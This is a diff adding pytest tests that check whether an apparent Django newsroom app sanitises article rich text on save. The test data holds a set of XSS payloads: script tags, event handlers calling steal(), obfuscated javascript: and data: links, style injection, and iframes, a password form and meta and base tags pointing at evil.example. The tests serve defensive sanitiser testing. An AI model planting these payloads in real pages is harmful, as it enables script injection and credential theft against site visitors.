@@ -343,3 +343,83 @@ def test_one_click_links_the_ticked_mentions_only(staff_client, mentioned_articl
     assert response["Location"] == url
     assert list(article.participants.all()) == [mentioned_article["director"]]
     assert mentioned_article["incb"] not in article.organisations.all()
+
+
+# --- Rich text: the allow-list on save, and the stored HTML is what pages show ------------------
+
+HOSTILE_RICH_TEXT = {
+    "script": (
+        '<p>Seized.</p><script>alert("x")</script><script src="https://evil.example/x.js">'
+        "</script>",
+        ["<script", "alert", "evil.example"],
+    ),
+    "event handlers": (
+        '<p onclick="steal()">Seized.</p><a href="https://unodc.org/" onmouseover="steal()">'
+        "UNODC</a><img src=x onerror=steal()><svg onload=steal()></svg>",
+        ["onclick", "onmouseover", "onerror", "onload", "steal", "<img", "<svg"],
+    ),
+    "javascript links": (
+        '<p><a href="javascript:steal()">a</a> <a href="JaVaScRiPt:steal()">b</a> '
+        '<a href="&#106;avascript:steal()">c</a> <a href=" javascript:steal()">d</a> '
+        '<a href="data:text/html,<script>steal()</script>">e</a> '
+        '<a href="vbscript:steal()">f</a></p>',
+        ["javascript", "data:", "vbscript", "steal", "&#106;"],
+    ),
+    "inline styles": (
+        '<p style="background:url(javascript:steal())">Seized.</p>'
+        "<style>body { display: none }</style>"
+        '<h2 style="color:red">Agenda</h2>',
+        ["style", "display: none", "color:red"],
+    ),
+    "frames and embeds": (
+        '<p>Seized.</p><iframe src="https://evil.example/"></iframe>'
+        '<object data="https://evil.example/x.swf"></object><embed src="x.swf">'
+        '<form action="https://evil.example/"><input name="password"></form>'
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
+        '<base href="https://evil.example/">',
+        ["<iframe", "<object", "<embed", "<form", "<input", "<meta", "<base", "evil.example"],
+    ),
+}
+
+
+@pytest.mark.parametrize("construct", HOSTILE_RICH_TEXT)
+def test_rich_text_is_sanitised_on_save_in_the_admin_and_shown_as_stored(
+    staff_client, client, construct
+):
+    from newsroom.sanitize import sanitize_html
+
+    from .test_images import article_form
+
+    body, forbidden = HOSTILE_RICH_TEXT[construct]
+    data = article_form(body_en=body)
+    response = staff_client.post(reverse("admin:newsroom_article_add"), data)
+    assert response.status_code == HTTPStatus.FOUND, response.context["adminform"].errors
+    article = Article.objects.get()
+    stored = article.body
+    assert stored, "the harmless part is kept"
+    for fragment in forbidden:
+        assert fragment.lower() not in stored.lower(), fragment
+    # Already clean, so the page shows exactly what is stored.
+    assert sanitize_html(stored) == stored
+    page = client.get(article.get_absolute_url())
+    assert page.status_code == HTTPStatus.OK
+    assert stored in page.text
+
+
+def test_allowed_rich_text_survives_the_round_trip(staff_client, client):
+    from .test_images import article_form
+
+    body = (
+        "<h2>Results</h2><p><strong>40 kg</strong> of <em>heroin</em>, see "
+        '<a href="https://www.unodc.org/" rel="noopener noreferrer nofollow">UNODC</a>.</p>'
+        "<ul><li>one</li></ul><blockquote><p>quoted</p></blockquote>"
+        '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
+    )
+    data = article_form(body_en=body)
+    assert (
+        staff_client.post(reverse("admin:newsroom_article_add"), data).status_code
+        == HTTPStatus.FOUND
+    )
+    article = Article.objects.get()
+    assert article.body == body
+    assert body in client.get(article.get_absolute_url()).text
